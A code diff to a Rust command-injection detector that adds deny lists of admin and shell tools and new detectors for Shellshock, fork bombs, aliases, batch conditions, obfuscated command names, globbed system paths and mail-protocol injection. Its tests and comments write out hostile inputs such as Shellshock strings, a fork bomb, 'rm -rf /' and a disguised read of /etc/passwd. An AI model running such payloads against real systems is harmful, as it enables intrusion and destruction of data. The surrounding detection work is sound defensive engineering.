@@ -266,6 +266,63 @@ const DISTINCT: &[&str] = &[
     "chroot",
     "command",
     "builtin",
+    // Configuration management, package managers, editors and admin tools that run or read things.
+    "ansible",
+    "ansible-config",
+    "ansible-galaxy",
+    "ansible-doc",
+    "ansible-inventory",
+    "ansible-pull",
+    "ansible-console",
+    "chef",
+    "chef-vault",
+    "chef-run",
+    "cscli",
+    "unxz",
+    "xz",
+    "unlzma",
+    "bsdtar",
+    "perf",
+    "aptitude",
+    "pip3",
+    "pipx",
+    "htop",
+    "top",
+    "column",
+    "comm",
+    "bridge",
+    "rmt",
+    "rmt-tar",
+    "rmt-dump",
+    "vi",
+    "ex",
+    "nvim",
+    "trap",
+    "adduser",
+    "deluser",
+    "pkexec",
+    "doas",
+    "setsid",
+    "nsenter",
+    "unshare",
+    "shutdown",
+    "regedit",
+    "reg",
+    "bcdboot",
+    "bcdedit",
+    "vssadmin",
+    "netsh",
+    "icacls",
+    "msiexec",
+    "forfiles",
+    "iwmi",
+    "invoke-wmimethod",
+    "gwmi",
+    "get-wmiobject",
+    "ll",
+    // The sqlite3 shell's dot-commands that run programs.
+    ".shell",
+    ".system",
 ];
 
 /// Commands that run the command after them (`time curl x`, `nohup sh -c`).
@@ -306,6 +363,7 @@ const WORDY: &[&str] = &[
     "cp", "mv", "rm", "ls", "dd", "gem", "pip", "npm", "ssh", "tar", "arp", "sed", "awk", "cmd", "bash",
     "nano", "vim", "irb", "apk", "grep", "curl", "wget", "whois", "mysql", "mongo", "docker", "telnet",
     "printf", "hostname", "passwd", "true", "false", "nice", "watch", "command", "builtin", "iex", "fold",
+    "top", "column", "comm", "bridge", "ex", "trap", "perf", "chef", "shutdown", "reg", "xz", "vi", "ll",
 ];
 
 fn is_wordy(word: &str) -> bool {
@@ -428,11 +486,19 @@ fn normalize(s: &str) -> String {
                     }
                 }
             }
-            b'$' if matches!(b.get(i + 1), Some(b'@') | Some(b'*') | Some(b'0'..=b'9')) => {
+            b'$' if matches!(
+                b.get(i + 1),
+                Some(b'@' | b'*' | b'0'..=b'9' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
+            ) =>
+            {
                 i += 2;
                 continue;
             }
-            b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => {
+            b'`' if b.get(i + 1) == Some(&b'`') => {
+                i += 2;
+                continue;
+            }
+            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => {
                 i += 3;
                 continue;
             }
@@ -562,7 +628,11 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
     let b = s.as_bytes();
     let (start, j) = word_span(b, i);
     let (dir, base) = split_word(s.get(start..j)?)?;
-    let cmd = command_of(base)?;
+    let cmd = command_of(base).or_else(|| command_of(strip_version(base)))?;
+    // `;$u cat x`: an unset variable put before the command to break up the pattern.
+    if sep != Sep::Start && b[i.min(start)..start].contains(&b'$') && !s[j..].starts_with(['=', ':', ',']) {
+        return Some("command after separator");
+    }
     // /bin/x, /usr/bin/x and their globbed forms (/???/?at).
     let bin_dir = !dir.is_empty()
         && dir.starts_with('/')
@@ -651,8 +721,10 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
         }
         if k > j {
             // After a wordy prefix at the start (`nice cat`), only a command-shaped remainder counts.
+            // `nohup who`, `strace id`: prefixes that are no words run whatever follows them.
             let inner = match sep {
-                Sep::Start => Sep::Amp,
+                Sep::Start if is_wordy(cmd) => Sep::Amp,
+                Sep::Start => Sep::Strong,
                 other => other,
             };
             if let Some(r) = command_at_depth(s, k, inner, paranoia, depth + 1) {
@@ -663,7 +735,15 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
     match sep {
         Sep::Subst => Some("command substitution"),
         Sep::Start => {
+            // `ansible all -m ping`: a command that is no word, with an option among its first arguments.
+            let option_soon = had_space
+                && s[k..].split_whitespace().take(3).any(|w| {
+                    w.len() >= 2
+                        && w.starts_with('-')
+                        && w.as_bytes()[1].is_ascii_alphabetic() | (w.as_bytes()[1] == b'-')
+                });
             if shell_arg
+                || (!wordy && option_soon)
                 || (paranoia >= 2 && host_arg)
                 || ((tech || !wordy) && sep_next)
                 || (PROBES.contains(&cmd) && end_or_sep)
@@ -674,7 +754,15 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
             }
         }
         Sep::Strong => {
-            if shell_arg || host_arg || delay_arg || end_or_sep || !wordy {
+            // `iex (iwr http://…)`: PowerShell running what a subexpression fetched.
+            let subexpression = matches!(cmd, "iex" | "invoke-expression") && next == Some(b'(');
+            // `vim x +silent\ \!whoami`, `ex -c:!pwd`: an editor told to run a shell command.
+            let line = s[k..].split('\n').next().unwrap_or("");
+            let editor_escape = matches!(cmd, "vi" | "vim" | "ex" | "nvim" | "view")
+                && line
+                    .split_whitespace()
+                    .any(|w| w.starts_with('!') || w.contains(":!"));
+            if shell_arg || host_arg || delay_arg || end_or_sep || !wordy || subexpression || editor_escape {
                 Some("command after separator")
             } else {
                 None
@@ -704,13 +792,18 @@ pub fn detect(value: &str, paranoia: u8, header: bool) -> Option<Hit> {
 
 /// [`detect`] of a value whose scan is `scan` ([`Scan::of`] the value).
 pub(crate) fn detect_in(value: &str, scan: Scan, paranoia: u8, header: bool) -> Option<Hit> {
+    detect_depth(value, scan, paranoia, header, 0)
+}
+
+/// `depth`: 1 when `value` is a value with its shell variables put in ([`substitute_variables`]).
+fn detect_depth(value: &str, scan: Scan, paranoia: u8, header: bool, depth: u8) -> Option<Hit> {
     let (bytes, needles) = (scan.bytes, scan.needles);
     if value.len() < 2 {
         return None;
     }
     // Most values have no separator, no shell syntax and none of the substrings below: then only
     // a command as their first word could be found, and that is checked without a lower-cased copy.
-    const QUIET: ByteSet = ByteSet::of_bytes(b";\n\r|&`$<>\\+'\"{");
+    const QUIET: ByteSet = ByteSet::of_bytes(b";\n\r|&`$<>\\+'\"{[");
     const LOUD_GROUPS: u32 = group::DEV
         | group::IFS
         | group::COMSPEC
@@ -721,7 +814,12 @@ pub(crate) fn detect_in(value: &str, scan: Scan, paranoia: u8, header: bool) -> 
         | group::DOLLAR_BRACKET
         | group::BIN
         | group::ARITHMETIC;
-    if !needles.may(LOUD_GROUPS) && !bytes.any(QUIET) && (header || !starts_with_command(value)) {
+    let alias = || {
+        value.get(..6).is_some_and(|p| p.eq_ignore_ascii_case("alias "))
+            || value.get(..3).is_some_and(|p| p.eq_ignore_ascii_case("if/"))
+    };
+    if !needles.may(LOUD_GROUPS) && !bytes.any(QUIET) && (header || !(starts_with_command(value) || alias()))
+    {
         return None;
     }
     let lower = lower_folded_cow(value, bytes);
@@ -751,11 +849,21 @@ pub(crate) fn detect_in(value: &str, scan: Scan, paranoia: u8, header: bool) -> 
             }
         }
     }
-    if let Some((reason, p)) = code_and_batch(raw, set, needles, paranoia) {
+    if let Some((reason, p)) =
+        code_and_batch(raw, set, needles, paranoia).or_else(|| shell_shapes(value, raw, set, header))
+    {
         return Some(Hit {
             reason,
             excerpt: excerpt(raw, p, 96),
         });
+    }
+    // `a=/etc&&b=/passwd&&c=cat&&$c $a$b`: the command is assembled from variables.
+    if depth == 0 && set.has(b'$') && set.has(b'=') {
+        if let Some(with_values) = substitute_variables(raw) {
+            if let Some(h) = detect_depth(&with_values, Scan::bytes_of(&with_values), paranoia, header, 1) {
+                return Some(h);
+            }
+        }
     }
     // Without quotes, backslashes, `+`, `$` or `{` there is nothing to undo.
     let (s, s_needles): (Cow<str>, _) = if set.any(ByteSet::of_bytes(b"\\+'\"${")) {
@@ -858,7 +966,10 @@ fn code_and_batch(s: &str, set: ByteSet, needles: Needles, paranoia: u8) -> Opti
     let batch_loop = needles.may(group::FOR) && set.may_contain("for %(");
     if let Some(p) = batch_loop.then(|| find_str(s, "for ")).flatten() {
         let rest = &s[p..];
-        if let (Some(i), Some(d)) = (find_str(rest, " in "), find_str(rest, " do")) {
+        if let (Some(i), Some(d)) = (
+            find_str(rest, " in "),
+            find_str(rest, " do").or_else(|| find_str(rest, ")do")),
+        ) {
             if rest[..i].contains('%') && i < d && rest[i..d].contains('(') {
                 return Some(("Windows batch loop", p));
             }
@@ -964,6 +1075,629 @@ fn runner_call(s: &str) -> Option<(&'static str, usize)> {
     None
 }
 
+/// Shell and command-interpreter shapes that need no command word after a separator: Bash
+/// function definitions (Shellshock's `() {`, fork bombs), `alias x=…`, Windows `if` conditions,
+/// brace expansion with an empty alternative (`{,id}`), command names split by quotes or empty
+/// expansions (`'c'url`, `una$$me`), globbed system paths (`/etc/pas[s]wd`) and mail-protocol
+/// commands on a new line (SMTP/IMAP/POP3 injection). `raw` is the lower-cased value, `value`
+/// the value as sent (the mail verbs are judged by their case).
+fn shell_shapes(value: &str, raw: &str, set: ByteSet, header: bool) -> Option<(&'static str, usize)> {
+    if set.has(b'(') && set.has(b'{') {
+        if let Some(p) = function_definition(raw) {
+            return Some(("shell function definition", p));
+        }
+    }
+    if set.has(b'\n') || set.has(b'\r') {
+        if let Some(p) = mail_command(value) {
+            return Some(("mail protocol command injection", p));
+        }
+    }
+    if header {
+        return None;
+    }
+    if set.has(b'=') && set.may_contain("alias ") {
+        if let Some(p) = alias_definition(raw) {
+            return Some(("shell alias definition", p));
+        }
+    }
+    if set.may_contain("if ") || set.may_contain("if/") {
+        if let Some(p) = batch_if(raw) {
+            return Some(("Windows batch condition", p));
+        }
+    }
+    if set.has(b'{') && set.has(b',') && set.has(b'}') {
+        if let Some(p) = brace_expansion(raw) {
+            return Some(("shell brace expansion", p));
+        }
+    }
+    if set.any(ByteSet::of_bytes(b"'\"\\$`")) || (set.has(b'(') && set.has(b')')) {
+        if let Some(p) = obfuscated_command(raw) {
+            return Some(("obfuscated command name", p));
+        }
+    }
+    if set.has(b'[') && set.has(b'/') && set.has(b']') {
+        if let Some(p) = globbed_system_path(raw) {
+            return Some(("globbed system path", p));
+        }
+    }
+    None
+}
+
+/// Whether `p` starts a shell word: the start of the value, or after blanks and a separator.
+fn at_command_start(s: &str, p: usize) -> bool {
+    let before = s[..p].trim_end_matches([' ', '\t', '@']);
+    before.is_empty() || before.ends_with([';', '|', '&', '\n', '\r', '(', '`'])
+}
+
+/// `() {` at the start of a value (how Bash imports functions from the environment: Shellshock),
+/// or `name() { …; }` followed by a call of `name` with a separator in its body (`:(){ :|:& };:`).
+fn function_definition(s: &str) -> Option<usize> {
+    let t = s.trim_start_matches([' ', '\t', '\'', '"']);
+    if let Some(rest) = t.strip_prefix("()") {
+        if rest.trim_start().starts_with('{') {
+            return Some(s.len() - t.len());
+        }
+    }
+    let mut from = 0;
+    while let Some(p) = find_str(&s[from..], "()").map(|p| from + p) {
+        from = p + 2;
+        let name_start = s[..p]
+            .char_indices()
+            .rfind(|(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '_' | ':' | '.' | '-')))
+            .map_or(0, |(q, c)| q + c.len_utf8());
+        let name = &s[name_start..p];
+        let after = s[p + 2..].trim_start();
+        if name.is_empty() || !after.starts_with('{') {
+            continue;
+        }
+        let body_start = s.len() - after.len() + 1;
+        let Some(close) = s[body_start..].find('}').map(|c| body_start + c) else {
+            continue;
+        };
+        let body = &s[body_start..close];
+        let rest = s[close + 1..].trim_start_matches([' ', '\t', ';']);
+        let called = rest
+            .strip_prefix(name)
+            .is_some_and(|r| !r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'));
+        if called && body.contains(['|', '&', ';']) && at_command_start(s, name_start) {
+            return Some(name_start);
+        }
+    }
+    None
+}
+
+/// `alias name=value` (with options such as `-p`, `+m`) at the start of a command.
+fn alias_definition(s: &str) -> Option<usize> {
+    let mut from = 0;
+    while let Some(p) = find_str(&s[from..], "alias ").map(|p| from + p) {
+        from = p + 6;
+        if !at_command_start(s, p) {
+            continue;
+        }
+        let mut words = s[p + 6..].split_whitespace();
+        let mut word = words.next();
+        // Options: -p, +m, -gmr, +g+.
+        for _ in 0..3 {
+            match word {
+                Some(w) if w.starts_with(['-', '+']) && !w.contains('=') => word = words.next(),
+                _ => break,
+            }
+        }
+        if let Some(w) = word {
+            let name = w.split('=').next().unwrap_or("").trim_matches(['\'', '"']);
+            if w.contains('=')
+                && !name.is_empty()
+                && name.bytes().all(|b| {
+                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'$' | b'{' | b'}')
+                })
+            {
+                return Some(p);
+            }
+        }
+    }
+    None
+}
+
+/// Splits a cmd.exe line into tokens; `"…"` is one token.
+fn batch_tokens(s: &str) -> Vec<&str> {
+    let b = s.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() && out.len() < 8 {
+        while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
+            i += 1;
+        }
+        if i >= b.len() {
+            break;
+        }
+        let start = i;
+        let mut quoted = false;
+        while i < b.len() && (quoted || !(b[i] == b' ' || b[i] == b'\t')) {
+            if b[i] == b'"' {
+                quoted = !quoted;
+            }
+            i += 1;
+        }
+        out.push(&s[start..i]);
+    }
+    out
+}
+
+/// A cmd.exe `if`: `if [/i] [not] exist|defined X (…)`, `if errorlevel N …`,
+/// `if A==B …`, `if A equ|neq|lss|leq|gtr|geq B …`, at the start of a command.
+fn batch_if(s: &str) -> Option<usize> {
+    let mut from = 0;
+    while let Some(p) = find_str(&s[from..], "if").map(|p| from + p) {
+        from = p + 2;
+        let rest = &s[p + 2..];
+        if !rest.starts_with([' ', '\t', '/']) || !at_command_start(s, p) {
+            continue;
+        }
+        let tokens = batch_tokens(rest.get(..200).unwrap_or(rest));
+        let mut t = tokens.as_slice();
+        if t.first().is_some_and(|w| w.eq_ignore_ascii_case("/i")) {
+            t = &t[1..];
+        }
+        if t.first() == Some(&"not") {
+            t = &t[1..];
+        }
+        let action = |w: Option<&&str>| {
+            w.is_some_and(|w| {
+                w.starts_with(['(', '@'])
+                    || matches!(
+                        *w,
+                        "goto"
+                            | "echo"
+                            | "call"
+                            | "cmd"
+                            | "set"
+                            | "exit"
+                            | "del"
+                            | "copy"
+                            | "start"
+                            | "type"
+                            | "if"
+                    )
+                    || split_word(w).is_some_and(|(_, base)| command_of(base).is_some() && !is_wordy(base))
+            })
+        };
+        let balanced = |w: &str| w.matches('(').count() == w.matches(')').count() || w.contains('%');
+        let not_code =
+            |w: Option<&&str>| !w.is_some_and(|w| matches!(*w, "then" | "{" | "and" | "or" | "return"));
+        let hit = match t {
+            ["exist" | "defined", _, next, ..] => action(Some(next)),
+            ["errorlevel" | "cmdextversion", n, _, ..] => n.bytes().all(|b| b.is_ascii_digit()),
+            [a, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq", b, rest @ ..] => {
+                !rest.is_empty() && not_code(rest.first()) && !a.ends_with(':') && !b.ends_with(':')
+            }
+            [a, op, b, rest @ ..] if op.starts_with("==") && op.len() <= 3 => {
+                (!rest.is_empty() || a.contains('%') || b.contains('%'))
+                    && not_code(rest.first())
+                    && balanced(a)
+                    && balanced(b)
+                    && !b.ends_with(':')
+            }
+            [cmp, rest @ ..] if cmp.contains("==") && !cmp.starts_with("==") => {
+                let (a, b) = cmp.split_once("==").unwrap_or((cmp, ""));
+                let b = b.trim_start_matches('=');
+                (!rest.is_empty() || cmp.contains('%'))
+                    && not_code(rest.first())
+                    && balanced(a)
+                    && balanced(b)
+                    && !b.ends_with(':')
+            }
+            _ => false,
+        };
+        if hit {
+            return Some(p);
+        }
+    }
+    None
+}
+
+/// Brace expansion that builds a command: a group with an empty alternative (`{,id}`,
+/// `{id,}`) or glued to letters (`{l,-lh}s`, `c{a,oun}t`), whose first word is a command.
+fn brace_expansion(s: &str) -> Option<usize> {
+    let mut from = 0;
+    while let Some(open) = s[from..].find('{').map(|p| from + p) {
+        from = open + 1;
+        let Some(close) = s[open..].find('}').map(|c| open + c) else {
+            break;
+        };
+        let inner = &s[open + 1..close];
+        if !inner.contains(',') || inner.contains([' ', '\t', '{', '"', ':']) || inner.len() > 60 {
+            continue;
+        }
+        let word_start = s[..open]
+            .rfind([' ', '\t', ';', '|', '&', '\n', '(', '`'])
+            .map_or(0, |q| q + 1);
+        let word_end = s[close..]
+            .find([' ', '\t', ';', '|', '&', '\n', ')', '`'])
+            .map_or(s.len(), |q| close + q);
+        let (prefix, suffix) = (&s[word_start..open], &s[close + 1..word_end]);
+        let alternatives: Vec<&str> = inner.split(',').collect();
+        let empty = alternatives.iter().any(|a| a.is_empty());
+        let glued = !prefix.is_empty() || !suffix.is_empty();
+        if !(empty || glued) || prefix.contains(['{', '$', '=']) {
+            continue;
+        }
+        let first = alternatives
+            .iter()
+            .map(|a| format!("{prefix}{a}{suffix}"))
+            .find(|w| !w.is_empty())
+            .unwrap_or_default();
+        // `$'whoami'`: ANSI-C quoting.
+        let first = normalize(&first.replace("$'", "'").replace("$\"", "\""));
+        let first = first.trim();
+        let cmd = split_word(first).and_then(|(_, base)| command_of(base));
+        // `{id,}` alone, or a command with an argument from the group (`{,ip,a}`).
+        if cmd.is_some() && (alternatives.len() >= 2 && (empty || prefix.len() + suffix.len() <= 3)) {
+            return Some(word_start);
+        }
+    }
+    None
+}
+
+/// A command name written with quotes, backslashes or empty expansions inside it (`'c'url`,
+/// `ti''me`, `c\at`, `una$$me`, `cu$@rl`, `ping``, `pi$()ng`, `uname$u`), or a backslash before it
+/// (`\ls`, which skips aliases). Quotes only around a word (`'id'`) are not enough.
+fn obfuscated_command(s: &str) -> Option<usize> {
+    let b = s.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        while i < b.len()
+            && matches!(
+                b[i],
+                b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b',' | b'=' | b'(' | b'{' | b'+'
+            )
+        {
+            i += 1;
+        }
+        let start = i;
+        while i < b.len()
+            && !matches!(
+                b[i],
+                b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b',' | b'=' | b'{' | b'+'
+            )
+        {
+            i += 1;
+        }
+        let token = &s[start..i];
+        if token.len() < 3 || token.len() > 48 || !token.is_ascii() {
+            continue;
+        }
+        let Some(clean) = strip_word_tricks(token) else {
+            continue;
+        };
+        if clean.len() >= 2
+            && clean
+                .bytes()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'/'))
+        {
+            let base = split_word(&clean).map(|(_, base)| base);
+            let versioned = base.map(strip_version);
+            if base
+                .and_then(command_of)
+                .or_else(|| versioned.and_then(command_of))
+                .is_some()
+            {
+                return Some(start);
+            }
+        }
+    }
+    None
+}
+
+/// A token with quotes, backslashes and empty expansions taken out; none when there was nothing
+/// inside the word to take out.
+fn strip_word_tricks(token: &str) -> Option<String> {
+    // Quotes only around the whole token are ordinary quoting.
+    let inner = match token.as_bytes() {
+        [q @ (b'\'' | b'"'), .., l] if q == l && !token[1..token.len() - 1].contains(*q as char) => {
+            &token[1..token.len() - 1]
+        }
+        _ => token,
+    };
+    let b = inner.as_bytes();
+    // Quotes at the very start or end of a token are phrase quoting (`"table top"`).
+    let lead = b.iter().take_while(|c| matches!(c, b'\'' | b'"')).count();
+    let trail = b.len()
+        - b.iter()
+            .rposition(|c| !matches!(c, b'\'' | b'"'))
+            .map_or(0, |q| q + 1);
+    let mut out = String::with_capacity(inner.len());
+    let mut tricks = false;
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let next = b.get(i + 1).copied();
+        match c {
+            b'\'' | b'"' => {
+                tricks |= i >= lead && i < b.len() - trail;
+                i += 1;
+            }
+            // `\ls` at the start (skips an alias) or a backslash between letters.
+            b'\\'
+                if next.is_some_and(|n| n.is_ascii_alphanumeric())
+                    && (i == 0 || b[i - 1].is_ascii_alphanumeric()) =>
+            {
+                tricks = true;
+                i += 1;
+            }
+            b'`' if next == Some(b'`') => {
+                tricks = true;
+                i += 2;
+            }
+            b'$' | b'<' | b'>' if next == Some(b'(') && b.get(i + 2) == Some(&b')') => {
+                tricks = true;
+                i += 3;
+            }
+            b'$' if next.is_some_and(|n| {
+                matches!(
+                    n,
+                    b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#' | b'0'..=b'9'
+                )
+            }) =>
+            {
+                tricks = true;
+                i += 2;
+            }
+            // `$u`, `${u}`: an unset variable inside or right after a word.
+            b'$' if i > 0 && b[i - 1].is_ascii_alphanumeric() => {
+                let mut k = i + 1;
+                let braced = next == Some(b'{');
+                if braced {
+                    k += 1;
+                }
+                let name = k;
+                while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
+                    k += 1;
+                }
+                if k == name || (braced && b.get(k) != Some(&b'}')) {
+                    return None;
+                }
+                tricks = true;
+                i = if braced { k + 1 } else { k };
+            }
+            _ => {
+                out.push(c as char);
+                i += 1;
+            }
+        }
+    }
+    tricks.then_some(out)
+}
+
+/// `python3.10` → `python`, `gcc7.4` → `gcc`: versioned interpreter and compiler names.
+fn strip_version(word: &str) -> &str {
+    let stem = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    if stem.len() < word.len()
+        && matches!(
+            stem,
+            "python" | "gcc" | "g++" | "perl" | "php" | "ruby" | "node" | "lua" | "pip" | "java" | "clang"
+        )
+    {
+        stem
+    } else {
+        word
+    }
+}
+
+/// The value with `$name` and `${name}` replaced by what the value assigned to them (`name=x;`),
+/// none when it uses no variable it assigns.
+fn substitute_variables(s: &str) -> Option<String> {
+    let b = s.as_bytes();
+    let mut vars: Vec<(&str, String)> = Vec::new();
+    let mut i = 0;
+    while i < b.len() && vars.len() < 32 {
+        let mut k = i;
+        while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
+            k += 1;
+        }
+        if k > i && b.get(k) == Some(&b'=') && b[i].is_ascii_alphabetic() && at_command_start(s, i) {
+            let mut v = String::new();
+            let mut m = k + 1;
+            while m < b.len() && !matches!(b[m], b';' | b'&' | b'|' | b'\n' | b' ') && b[m].is_ascii() {
+                match b[m] {
+                    b'\\' if m + 1 < b.len() && b[m + 1].is_ascii() => {
+                        v.push(b[m + 1] as char);
+                        m += 2;
+                        continue;
+                    }
+                    b'\'' | b'"' => {}
+                    c => v.push(c as char),
+                }
+                m += 1;
+            }
+            vars.push((&s[i..k], v));
+            i = m;
+            continue;
+        }
+        i = k.max(i + 1);
+    }
+    if vars.is_empty() {
+        return None;
+    }
+    let mut out = String::with_capacity(s.len() + 16);
+    let mut used = false;
+    let mut i = 0;
+    while let Some(p) = s[i..].find('$').map(|p| i + p) {
+        out.push_str(&s[i..p]);
+        let braced = b.get(p + 1) == Some(&b'{');
+        let name_start = p + 1 + usize::from(braced);
+        let mut k = name_start;
+        while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
+            k += 1;
+        }
+        let close_ok = !braced || b.get(k) == Some(&b'}');
+        match vars.iter().rev().find(|(n, _)| *n == &s[name_start..k]) {
+            Some((_, v)) if close_ok && k > name_start => {
+                out.push_str(v);
+                used = true;
+                i = k + usize::from(braced);
+            }
+            _ => {
+                out.push('$');
+                i = p + 1;
+            }
+        }
+    }
+    out.push_str(&s[i..]);
+    used.then_some(out)
+}
+
+/// Files and directories a shell glob in a request has no business matching.
+const GLOB_TARGETS: &[&str] = &[
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/group",
+    "/etc/hosts",
+    "/etc/sudoers",
+    "/etc/issue",
+    "/etc",
+    "/bin/sh",
+    "/bin/bash",
+    "/usr/bin/bash",
+    "/usr/bin/sh",
+    "/usr/bin/env",
+    "/usr/bin/id",
+    "/proc/self/environ",
+];
+
+/// An absolute path with a bracket glob (`/etc/pas[s]wd`, `/usr/[a-z]in/bash`) that matches a
+/// system file.
+fn globbed_system_path(s: &str) -> Option<usize> {
+    let mut from = 0;
+    while let Some(p) = s[from..].find('/').map(|q| from + q) {
+        let end = s[p..]
+            .find([' ', '\t', '\n', ';', '|', '&', '=', ',', '"', '\'', ')'])
+            .map_or(s.len(), |q| p + q);
+        from = end.max(p + 1);
+        let token = &s[p..end];
+        if token.contains('[') && token.len() <= 64 && token.bytes().filter(|b| *b == b'*').count() <= 3 {
+            if let Some(rest) = GLOB_TARGETS.iter().find(|t| glob(token.as_bytes(), t.as_bytes())) {
+                let _ = rest;
+                return Some(p);
+            }
+        }
+    }
+    None
+}
+
+/// A mail-protocol command on a line of its own after a CR or LF: SMTP (`MAIL FROM:<…>`,
+/// `RCPT TO:<…>`, `EHLO host`, `DATA`), POP3 (`RETR 1`, `APOP user digest`) or IMAP with a tag
+/// (`a001 EXAMINE INBOX`). A header or mail field that lets a newline through lets the client
+/// talk to the mail server.
+fn mail_command(value: &str) -> Option<usize> {
+    let b = value.as_bytes();
+    let mut i = 0;
+    while let Some(q) = b[i..].iter().position(|c| *c == b'\n' || *c == b'\r') {
+        let start = (i + q + 1..b.len())
+            .find(|&k| b[k] != b'\n' && b[k] != b'\r')
+            .unwrap_or(b.len());
+        let end = (start..b.len())
+            .find(|&k| b[k] == b'\n' || b[k] == b'\r')
+            .unwrap_or(b.len());
+        if mail_line(value[start..end].trim_end()) {
+            return Some(start);
+        }
+        if end >= b.len() {
+            break;
+        }
+        i = end;
+    }
+    None
+}
+
+fn mail_line(line: &str) -> bool {
+    if line.len() < 4 || line.len() > 200 {
+        return false;
+    }
+    let lower = line.to_ascii_lowercase();
+    let words: Vec<&str> = line.split_whitespace().collect();
+    let upper = |w: &str| w.bytes().all(|c| c.is_ascii_uppercase());
+    let digits = |w: &str| !w.is_empty() && w.bytes().all(|c| c.is_ascii_digit());
+    // SMTP.
+    for verb in ["mail from:", "rcpt to:"] {
+        if let Some(rest) = lower.strip_prefix(verb) {
+            if rest.trim_start().starts_with('<') {
+                return true;
+            }
+        }
+    }
+    match words.as_slice() {
+        [v] if upper(v)
+            && matches!(
+                *v,
+                "DATA" | "QUIT" | "RSET" | "NOOP" | "STARTTLS" | "STAT" | "UIDL" | "CAPA"
+            ) =>
+        {
+            return true
+        }
+        [v, host] if matches!(v.to_ascii_lowercase().as_str(), "ehlo" | "helo") && host.contains('.') => {
+            return true
+        }
+        [v, _] if upper(v) && matches!(*v, "HELP" | "VRFY" | "EXPN" | "USER" | "PASS") => return true,
+        [v, _, ..] if *v == "AUTH" => return true,
+        // POP3 with message numbers.
+        [v, n]
+            if matches!(v.to_ascii_lowercase().as_str(), "retr" | "dele" | "list" | "uidl") && digits(n) =>
+        {
+            return true
+        }
+        [v, n, m] if v.eq_ignore_ascii_case("top") && digits(n) && digits(m) => return true,
+        [v, _, d]
+            if v.eq_ignore_ascii_case("apop")
+                && d.len() == 32
+                && d.bytes().all(|c| c.is_ascii_hexdigit()) =>
+        {
+            return true
+        }
+        _ => {}
+    }
+    // IMAP: a tag, a command, arguments in IMAP's syntax.
+    if let [tag, cmd, args @ ..] = words.as_slice() {
+        let tag_ok = tag.len() <= 8
+            && tag.bytes().all(|c| c.is_ascii_alphanumeric())
+            && tag.bytes().any(|c| c.is_ascii_digit())
+            && tag.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
+        let command = matches!(
+            cmd.to_ascii_lowercase().as_str(),
+            "login"
+                | "select"
+                | "examine"
+                | "create"
+                | "delete"
+                | "rename"
+                | "subscribe"
+                | "list"
+                | "lsub"
+                | "status"
+                | "append"
+                | "expunge"
+                | "search"
+                | "fetch"
+                | "store"
+                | "copy"
+                | "move"
+                | "uid"
+                | "authenticate"
+                | "logout"
+                | "quit"
+                | "capability"
+        );
+        let rest = args.join(" ");
+        let imap_args = args.is_empty()
+            || rest.contains(['"', '(', '{', '\\', ':', '*'])
+            || rest.bytes().any(|c| c.is_ascii_digit())
+            || rest.to_ascii_lowercase().contains("inbox")
+            || args.iter().all(|w| upper(w));
+        let flags = rest.contains("(\\") || lower.contains("+flags");
+        return command && ((tag_ok && imap_args) || flags);
+    }
+    false
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -1025,6 +1759,174 @@ mod tests {
         ] {
             assert!(hit(attack), "missed {attack:?}");
         }
+    }
+
+    /// Each shape: attacks it catches, and benign look-alikes it must leave alone.
+    fn shape_cases(attacks: &[&str], benign: &[&str]) {
+        for a in attacks {
+            assert!(hit(a), "missed {a:?}");
+        }
+        for ok in benign {
+            assert!(
+                detect(ok, 1, false).is_none(),
+                "false positive on {ok:?}: {:?}",
+                detect(ok, 1, false)
+            );
+        }
+    }
+
+    #[test]
+    fn function_definitions() {
+        shape_cases(
+            &[
+                "() { :; }; /bin/bash -c id",
+                ":(){ :|:& };:",
+                "f(){ f|f& };f",
+                "; test() { test | test & } test",
+            ],
+            &["render() { return a || b }", "call f() {x}", "foo() {bar}; baz"],
+        );
+        // Shellshock is a header attack.
+        assert!(detect("() { :; }; echo vulnerable", 1, true).is_some());
+    }
+
+    #[test]
+    fn alias_definitions() {
+        shape_cases(
+            &[
+                "alias a=b",
+                "alias -p x=id\n",
+                "; alias ls='rm -rf /'",
+                "alias 'l'=curl&l x",
+            ],
+            &["alias John Smith", "email alias=foo", "alias: jsmith"],
+        );
+    }
+
+    #[test]
+    fn batch_conditions() {
+        shape_cases(
+            &[
+                "IF EXIST filename.txt (",
+                "IF NOT DEFINED BAR (SET BAR=1)",
+                "if a==b foo",
+                "if/i a==b foo",
+                "IF 2 GEQ 15 echo \"bigger\"",
+                "if \"A A\" == \"A A\" echo same",
+                "IF ERRORLEVEL 3 goto end",
+                "& FOR %@ IN (a,b,c)DO cmd",
+            ],
+            &[
+                "if not defined by the user (see above)",
+                "if (a == b) { run() }",
+                "if x == y: return",
+                "if a == b then c",
+                "what if it exists",
+            ],
+        );
+    }
+
+    #[test]
+    fn brace_expansions() {
+        shape_cases(
